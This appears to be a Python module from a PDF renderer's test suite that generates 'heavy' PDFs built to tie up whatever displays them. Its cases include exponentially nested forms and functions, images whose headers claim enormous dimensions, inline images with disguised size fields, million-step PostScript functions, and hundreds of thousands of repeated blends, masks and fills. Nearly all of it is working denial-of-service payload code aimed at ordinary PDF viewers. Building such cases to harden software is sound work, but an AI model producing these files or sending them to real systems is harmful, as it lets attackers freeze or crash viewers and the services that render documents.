"""PDFs that are small, and keep whoever shows them busy."""

from __future__ import annotations

import zlib

from attacks.pdf_painting import PAINTING
from attacks.pdf_parts import TEXT, Make, image, jpeg_head, jpx_head, scans, zeros
from attacks.raw_pdf import PAGE, SHEET, chain, doubling, drawing, packed, raw, stream


def _functions() -> bytes:
    page = b"<<" + SHEET + b"/Contents 4 0 R/Resources<</Shading<</S 5 0 R>>>>>>"
    stitch = b"<</FunctionType 3/Domain[0 1]/Bounds[.5]/Encode[0 1 0 1]/Functions[%d 0 R %d 0 R]>>"
    steps = [stitch % (number + 7, number + 7) for number in range(30)]
    last = b"<</FunctionType 2/N 1/Domain[0 1]>>"
    shading = b"<</ShadingType 2/ColorSpace/DeviceGray/Coords[0 0 1 1]/Function 6 0 R>>"
    return raw([page, stream(b"/S sh"), shading, *steps, last])


def _white_fax(side: int) -> bytes:
    """A picture of so many white dots each way in CCITT group 4: one bit a line."""
    return image(
        side, side, b"\xff" * (side // 8 + 1), b"/Filter/CCITTFaxDecode/DecodeParms<</K -1/Columns %d/Rows %d>>" % (side, side), 1
    )


def _postscript(count: int) -> bytes:
    program = b"{" + b"dup mul " * count + b"}"
    function = stream(program, b"/FunctionType 4/Domain[0 1 0 1]/Range[0 1]")
    shading = b"<</ShadingType 1/ColorSpace/DeviceGray/Domain[0 1 0 1]/Matrix[595 0 0 842 0 0]/Function 6 0 R>>"
    return drawing(b"/S sh", b"/Shading<</S 5 0 R>>", shading, function)


def _shadings(count: int) -> bytes:
    shading = b"<</ShadingType 3/ColorSpace/DeviceRGB/Coords[300 400 0 300 400 500]/Extend[true true]/Function 6 0 R>>"
    return drawing(
        b"/S sh " * count, b"/Shading<</S 5 0 R>>", shading, b"<</FunctionType 2/N 1.5/Domain[0 1]/C0[0 0 0]/C1[1 1 1]>>"
    )


def _fills(count: int) -> bytes:
    state = b"<</ca .5/BM/Luminosity>>"
    return drawing(b"/G gs " + b"0 0 595 842 re f " * count, b"/ExtGState<</G 5 0 R>>", state)


def _masks(count: int) -> bytes:
    state = b"<</SMask<</S/Luminosity/G 6 0 R>>>>"
    group = stream(b"0 0 595 842 re f", b"/Type/XObject/Subtype/Form/BBox[0 0 595 842]/Group<</S/Transparency/CS/DeviceGray>>")
    return drawing(b"q /G gs 0 0 595 842 re f Q " * count, b"/ExtGState<</G 5 0 R>>", state, group)


_MULTIPLY = b"/ExtGState<</M<</BM/Multiply>>>>"


def _blended(count: int, *, grouped: bool = False) -> bytes:
    """Everything that lies under what is blended is painted again: work that grows with the square."""
    content = b"/M gs " + b"0 0 595 842 re f " * count
    group = b"/Type/XObject/Subtype/Form/BBox[0 0 595 842]/Group<</S/Transparency>>/Resources<<" + _MULTIPLY + b">>"
    return drawing(b"/F Do" if grouped else content, _MULTIPLY + b"/XObject<</F 5 0 R>>", stream(content, group))


def _turned(count: int) -> bytes:
    return drawing(b"/M gs .7 .7 -.7 .7 300 0 cm " + b"0 0 800 .1 re f " * count, _MULTIPLY)


def _same_dot(times: int, before: bytes = b"") -> bytes:
    content = before + b"q 595 0 0 842 0 0 cm " + b"/I Do " * times
    return drawing(content, _MULTIPLY + b"/XObject<</I 5 0 R>>", image(1, 1, b"x", b""))


def _deep_mask(inside: int, times: int) -> bytes:
    group = stream(b"0 0 595 842 re f " * inside, b"/Type/XObject/Subtype/Form/BBox[0 0 595 842]/Group<</S/Transparency>>")
    state = b"<</SMask<</S/Luminosity/G 6 0 R>>>>"
    return drawing(b"/G gs " + b"0 0 595 842 re f " * times, b"/ExtGState<</G 5 0 R>>", state, group)


def _tiles(step: float) -> bytes:
    tile = stream(
        b"0 0 .01 .01 re f",
        b"/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 1 1]/XStep %f/YStep %f/Resources<<>>" % (step, step),
    )
    return drawing(b"/Pattern cs /P scn 0 0 595 842 re f", b"/Pattern<</P 5 0 R>>", tile)


def _same_image(times: int, side: int) -> bytes:
    return drawing(b"q 595 0 0 842 0 0 cm /I Do Q " * times, b"/XObject<</I 5 0 R>>", _white_fax(side))


def _many_images(count: int, side: int) -> bytes:
    names = b"".join(b"/I%d %d 0 R" % (number, number + 5) for number in range(count))
    content = b"".join(b"q 595 0 0 842 0 0 cm /I%d Do Q " % number for number in range(count))
    return drawing(content, b"/XObject<<" + names + b">>", *[_white_fax(side)] * count)


def _inline_images(count: int, side: int) -> bytes:
    picture = b"q 595 0 0 842 0 0 cm BI /W %d /H %d /BPC 1 /CS /G /F /CCF /DP <</K -1 /Columns %d /Rows %d>> ID " % (
        side,
        side,
        side,
        side,
    )
    return drawing((picture + b"\xff" * (side // 8 + 1) + b"\nEI Q ") * count)


def _inline_said(head: bytes, coding: bytes = b"/Fl", body: bytes | None = None) -> bytes:
    """An inline picture of 60,000 × 60,000 dots whose head says so in another way than most."""
    return drawing(b"BI " + head + b" /BPC 1 /CS /G /F " + coding + b" ID " + (body or zeros(450_000_000)) + b"\nEI")


def _mesh(count: int) -> bytes:
    body = bytes((0, 0, 0, 0, 0, 0, 255, 0, 255, 0, 255, 255)) * count
    shading = packed(
        body,
        b"/ShadingType 4/ColorSpace/DeviceGray/BitsPerCoordinate 8/BitsPerComponent 8/BitsPerFlag 8/Decode[0 595 0 842 0 1]",
    )
    return drawing(b"/S sh", b"/Shading<</S 5 0 R>>", shading)


HEAVY: dict[str, Make] = {
    **PAINTING,
    "forms two to the 30": lambda: doubling(30),
    "forms four to the 6": lambda: doubling(6, 4),
    "forms 20 deep": lambda: chain(20),
    "forms two to the 9": lambda: doubling(9),
    "functions two to the 30": _functions,
    "one picture of 140,000,000 dots 100,000 times": lambda: _same_image(100_000, 11_800),
    "1,000 pictures of 140,000,000 dots": lambda: _many_images(1_000, 11_800),
    "500 inline pictures of 140,000,000 dots": lambda: _inline_images(500, 11_800),
    "inline picture of +60,000 × +60,000": lambda: _inline_said(b"/W +60000 /H +60000"),
    "inline picture of /#57 60,000": lambda: _inline_said(b"/#57 60000 /#48 60000"),
    "inline picture with comments in its head": lambda: _inline_said(b"/W%x\n60000 /H%x\n60000"),
    "inline picture with /ID in its head": lambda: _inline_said(b"/Foo /ID /W 60000 /H 60000"),
    "inline JPEG of 65,000 × 65,000, deflated": lambda: _inline_said(
        b"/W 9 /H 9", b"[/Fl /DCT]", zlib.compress(jpeg_head(65_000, 65_000))
    ),
    "JPEG of 65,000 × 65,000 behind other bytes": lambda: raw(
        [PAGE, stream(b"/A Do"), image(9, 9, b"xx" + jpeg_head(65_000, 65_000), b"/Filter/DCTDecode")]
    ),
    "JPEG of 65,000 × 65,000 called 9 × 9": lambda: raw(
        [PAGE, stream(b"/A Do"), image(9, 9, jpeg_head(65_000, 65_000), b"/Filter/DCTDecode")]
    ),
    "JPEG of 5,000 scans": lambda: raw([PAGE, stream(b"/A Do"), image(2000, 2000, scans(5_000, 2000), b"/Filter/DCTDecode")]),
    "JPEG 2000 of 60,000 × 60,000 called 9 × 9": lambda: raw(
        [PAGE, stream(b"/A Do"), image(9, 9, jpx_head(60_000, 60_000), b"/Filter/JPXDecode")]
    ),
    "fax of 60,000 columns called 9": lambda: raw(
        [
            PAGE,
            stream(b"/A Do"),
            image(9, 9, b"\xff" * 9000, b"/Filter/CCITTFaxDecode/DecodeParms<</K -1/Columns 60000/Rows 60000>>", 1),
        ]
    ),
    "picture in JBIG2": lambda: raw([PAGE, stream(b"/A Do"), image(9, 9, b"x", b"/Filter/JBIG2Decode", 1)]),
    "picture of 2 billion × 2 billion": lambda: raw([PAGE, stream(b"/A Do"), image(2_000_000_000, 2_000_000_000, b"x", b"")]),
    "deflated picture unlike its size": lambda: raw(
        [PAGE, stream(b"/A Do"), image(12_000, 12_000, zeros(1_000_000), b"/Filter/FlateDecode")]
    ),
    "program of 1,000,000 steps a dot": lambda: _postscript(1_000_000),
    "program of 20,000 steps a dot": lambda: _postscript(20_000),
    "shadings over the page 300,000 times": lambda: _shadings(300_000),
    "shadings over the page 2,000 times": lambda: _shadings(2_000),
    "transparent page 300,000 times": lambda: _fills(300_000),
    "masked page 100,000 times": lambda: _masks(100_000),
    "page multiplied 200 times": lambda: _blended(200),
    "page multiplied 200 times, through a plain group": lambda: _blended(200, grouped=True),
    "thin turned lines multiplied 2,000 times": lambda: _turned(2_000),
    "picture of one dot over the page 100,000 times": lambda: _same_dot(100_000),
    "picture of one dot multiplied 200 times": lambda: _same_dot(200, b"/M gs "),
    "mask of 1,000 fills under 500 fills": lambda: _deep_mask(1_000, 500),
    "tiles of 0.001 points": lambda: _tiles(0.001),
    "tiles of 0.06 points": lambda: _tiles(0.06),
    "mesh of 1,000,000 triangles": lambda: _mesh(1_000_000),
    "dashes of 0.0001 points": lambda: drawing(b"[.0001] 0 d 5 w 0 0 m 595 842 l S " * 100),
    "function of 20 inputs": lambda: _samples(20),
    "page of 14,400 × 14,400 points": lambda: raw(
        [b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 14400 14400]/Contents 4 0 R>>", stream(TEXT)]
    ),
}


def _samples(inputs: int) -> bytes:
    size = b"2 " * inputs
    function = stream(
        zlib.compress(bytes(2**inputs)),
        b"/FunctionType 0/Filter/FlateDecode/BitsPerSample 8/Range[0 1]/Size[" + size + b"]/Domain[" + b"0 1 " * inputs + b"]",
    )
    names = b"".join(b"/N%d" % each for each in range(inputs))
    return drawing(
        b"/C cs " + b".5 " * inputs + b"scn 0 0 595 842 re f",
        b"/ColorSpace<</C[/DeviceN[" + names + b"]/DeviceGray 5 0 R]>>",
        function,
    )
